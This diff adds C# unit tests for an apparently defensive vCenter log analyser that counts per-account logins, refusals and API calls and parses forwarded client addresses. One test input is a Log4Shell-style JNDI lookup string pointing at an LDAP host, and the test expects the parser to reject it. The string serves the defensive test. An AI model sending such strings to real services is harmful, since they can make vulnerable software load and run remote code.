@@ -1,0 +1,73 @@
+using VcsaAuthGuard.ApiLoad;
+using VcsaAuthGuard.Fixtures;
+using VcsaAuthGuard.Logs;
+using VcsaAuthGuard.Logs.Inputs;
+using VcsaAuthGuard.Logs.Reading;
+
+namespace VcsaAuthGuard.Tests.ApiLoad;
+
+/// <summary>Load of logs as people publish them; their origin is in tests/fixtures/cases/README.md.</summary>
+public class LoadCaseTests
+{
+    [Fact]
+    public void A_call_behind_a_relays_header_is_a_call_at_its_own_time()
+    {
+        ApiClientLoad load = Assert.Single(ReadCase("f07-relay-wrapped.log"));
+
+        Assert.Equal(1, load.Calls);
+        Assert.Equal(new DateTimeOffset(2026, 9, 16, 7, 5, 15, 540, TimeSpan.Zero), load.FirstSeen);
+    }
+
+    [Fact]
+    public void A_refused_login_is_that_of_the_account_that_its_entry_names()
+    {
+        List<ApiClientLoad> loads = ReadCase("f04-kb-impersonate.log");
+
+        Assert.Equal(2, loads.Sum(load => load.RefusedLogins));
+        Assert.Equal(1, Assert.Single(loads, load => load.User == "USERNAME").RefusedLogins);
+    }
+
+    [Fact]
+    public void The_account_that_vpxd_logs_beside_a_login_owns_its_session()
+    {
+        ApiClientLoad load = Assert.Single(ReadCase("d10-vpxd.log"), load => load.User is not null);
+
+        Assert.Equal(@"NETLAB\svc-backup", load.User);
+        Assert.Equal(1, load.Logins);
+        Assert.Equal(1, load.Calls);
+    }
+
+    [Fact]
+    public void Of_a_list_of_forwarded_addresses_the_last_is_the_clients()
+    {
+        ApiClientLoad load = Assert.Single(ReadCase("f06-websso-67.log"));
+
+        Assert.Equal("192.0.2.3", load.Address);
+        Assert.Equal(1, load.RefusedLogins);
+    }
+
+    [Fact]
+    public void Events_that_a_broker_wrote_as_JSON_are_read()
+    {
+        List<ApiClientLoad> loads = ReadCase("f19-veba-cloudevents.jsonl");
+
+        ApiClientLoad backup = Assert.Single(loads, load => load.User == @"VSPHERE.LOCAL\svc-backup");
+        Assert.Equal("192.0.2.9", backup.Address);
+        Assert.Equal(1, backup.Logins);
+        ApiClientLoad machine = Assert.Single(loads, load => load.User == "machine-b8eb9a7f");
+        Assert.Equal("127.0.0.1", machine.Address);
+        Assert.Equal(1, machine.Logouts);
+        Assert.Equal(34, machine.Calls);
+    }
+
+    [Theory]
+    [InlineData("${jndi:ldap://192.0.2.3:1270/lol}", null)]
+    [InlineData("203.0.113.7, 2001:db8::7", "2001:db8::7")]
+    [InlineData("203.0.113.7,vc01.example.org", "vc01.example.org")]
+    [InlineData("", null)]
+    public void What_is_no_address_is_shown_as_none(string text, string? address) => Assert.Equal(address, NetworkAddress.Parse(text));
+
+    private static List<ApiClientLoad> ReadCase(string name) =>
+        [.. new ApiLoadReader(LoadRules.Default, new LogReadReport()).Read(
+            LogInputFinder.Find([Repository.Case(name)], new LogReadReport(), LogKinds.All), TestContext.Current.CancellationToken)];
+}
